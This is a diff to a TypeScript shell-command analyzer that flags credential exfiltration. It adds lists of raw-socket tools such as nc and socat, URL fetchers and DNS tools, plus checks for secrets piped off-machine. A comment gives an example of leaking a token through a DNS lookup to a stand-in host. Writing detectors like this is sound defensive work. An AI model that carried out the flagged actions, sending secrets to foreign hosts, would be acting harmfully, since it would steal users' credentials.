@@ -15,7 +15,15 @@ import {
 } from "./paths.ts";
 import type { Arg, State, Unit } from "./unit.ts";
 import type { Pipe } from "./walk.ts";
-import { analyzeCredentialPrinters, analyzeSecretEnv } from "./secret_env.ts";
+import {
+  analyzeCredentialPrinters,
+  analyzeSecretEnv,
+  exfiltratedSecret,
+  isLocalHost,
+  secretVarsIn,
+  secretVarsPrinted,
+  urlHost,
+} from "./secret_env.ts";
 import { credentialPrinted } from "./token_printers.ts";
 
 /** Programs that use credentials without printing them (ssh -i key, kubectl...) or only look at paths. */
@@ -538,10 +546,62 @@ function judgeSent(path: string, st: State, how: string): void {
   }
 }
 
+/** Senders that talk to a host over a raw socket: no service reads a token there. */
+const RAW_SENDERS = new Set([
+  "nc",
+  "ncat",
+  "netcat",
+  "socat",
+  "telnet",
+  "openssl",
+]);
+/** Fetchers whose URL names the service at the other end. */
+const URL_SENDERS = new Set(["curl", "wget", "http", "https", "xh"]);
+/** DNS lookups: a name looked up leaves the machine, whatever answers. */
+const DNS_TOOLS = new Set(["dig", "nslookup", "host", "drill", "kdig"]);
+
+/**
+ * Where a sender's stdin goes, for a secret variable piped into it: the URL's
+ * host for a fetcher, null (no service) for a raw socket or DNS tool that is
+ * not local, undefined when the secret stays (a local host, another tool).
+ */
+function stdinDestination(u: Unit): string | null | undefined {
+  if (URL_SENDERS.has(u.name)) return urlHost(u.args) ?? undefined;
+  if (RAW_SENDERS.has(u.name) || DNS_TOOLS.has(u.name)) {
+    const host = u.args.find((a) => !a.text.startsWith("-") && a.known);
+    return host && isLocalHost(host.text) ? undefined : null;
+  }
+  return undefined;
+}
+
+/** Secret variables in the words of a command and in the commands its substitutions run. */
+function secretVarsOf(u: Unit): string[] {
+  const out = u.args.flatMap((a) => secretVarsIn(a.text));
+  for (const a of u.args) {
+    for (const s of a.subs) {
+      for (const c of commandsIn(s)) {
+        out.push(...c.args.flatMap((x) => secretVarsIn(x)));
+      }
+    }
+  }
+  return out;
+}
+
 /** Network senders: uploaded files, piped-in dumps, substitutions that read secrets. */
 export function analyzeSinks(u: Unit, st: State, pipe: Pipe): void {
-  if (!SINKS.has(u.name)) return;
   const m = st.out.matches;
+  // dig $(echo $TOKEN).x.example: the secret is the name looked up.
+  if (DNS_TOOLS.has(u.name)) {
+    const name = exfiltratedSecret(secretVarsOf(u), null);
+    if (name) {
+      m.add(
+        "credential_exfiltration",
+        `${u.name} looks up a name that holds the secret ${name}: DNS carries it off the machine`,
+        "never put credentials into host names or lookups",
+      );
+    }
+  }
+  if (!SINKS.has(u.name)) return;
   for (const f of uploads(u)) judgeSent(f.text, st, u.name);
   // Substitutions: curl -d "$(env)" / "$(cat .env)".
   for (const a of u.args) {
@@ -578,6 +638,20 @@ export function analyzeSinks(u: Unit, st: State, pipe: Pipe): void {
           } | ${u.name} sends ${printed} to another machine`,
           "pipe a credential only into the local tool that needs it (docker login --password-stdin)",
         );
+      } else if (secretVarsPrinted(p.name, texts).length > 0) {
+        const to = stdinDestination(u);
+        const name = to === undefined
+          ? undefined
+          : exfiltratedSecret(secretVarsPrinted(p.name, texts), to);
+        if (name) {
+          m.add(
+            "credential_exfiltration",
+            `${p.name} | ${u.name} sends the secret ${name} to ${
+              to ?? "another machine"
+            }, which is not the service it belongs to`,
+            "send a credential only to its own service, and let the tool's login handle it",
+          );
+        }
       } else if (isDumper(p.name, texts)) {
         m.add(
           "env_exfiltration",
